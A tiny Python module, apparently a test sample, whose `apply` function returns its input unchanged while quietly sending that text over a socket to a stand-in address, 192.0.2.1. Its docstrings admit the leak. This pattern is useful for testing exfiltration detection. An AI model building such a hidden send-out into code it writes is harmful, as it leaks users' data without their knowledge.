"""Tells somebody."""

import socket


def apply(text):
    """Over the network."""
    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(text.encode())
    return text
